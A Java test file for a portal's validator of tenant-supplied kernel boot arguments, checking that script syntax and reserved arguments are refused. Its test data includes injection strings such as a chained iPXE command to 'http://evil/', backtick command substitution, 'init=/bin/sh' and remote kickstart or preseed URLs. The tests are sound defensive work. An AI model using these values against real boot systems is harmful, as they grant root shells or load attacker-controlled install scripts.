package org.yuzuri.portal.image;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.yuzuri.portal.platform.ProblemException;

class TenantArgumentsTest {

  @Test
  void usualArgumentsPassWithSingleSpaces() {
    assertThat(TenantArguments.checked("  quiet   console=ttyS0,115200n8 ip=[::1] "))
        .isEqualTo("quiet console=ttyS0,115200n8 ip=[::1]");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "quiet\n#!ipxe",
        "quiet || shell",
        "quiet && chain http://evil/",
        "x=${mac}",
        "x='y z'",
        "x=\"y\"",
        "quiet;reboot",
        "quiet\u0000",
        "a\tb",
        "x=`id`",
        "x=日本"
      })
  void syntaxOfScriptsIsRefused(String text) {
    assertThatThrownBy(() -> TenantArguments.checked(text))
        .isInstanceOf(ProblemException.class)
        .hasMessageContaining("kernelArguments");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "rdinit=/bin/sh",
        "quiet init=/bin/sh",
        "initrd=evil",
        "inst.ks=http://evil/ks",
        "KS=http://evil/ks",
        "preseed/url=http://evil/",
        "BOOTIF=01-52"
      })
  void whatThePortalSetsItselfIsRefusedByName(String text) {
    String last = text.substring(text.lastIndexOf(' ') + 1);

    assertThatThrownBy(() -> TenantArguments.checked(text)).hasMessageContaining(last);
  }

  @Property(tries = 1000)
  void whatPassesHoldsNoSyntaxOfAScript(@ForAll String text) {
    String passed;
    try {
      passed = TenantArguments.checked(text);
    } catch (ProblemException refused) {
      return;
    }
    assertThat(passed).doesNotContainPattern("[\\n\\r\\t$`'\"\\\\|&;<>(){}#!*?]");
    assertThat(passed).doesNotContain("  ").isEqualTo(passed.strip());
  }
}
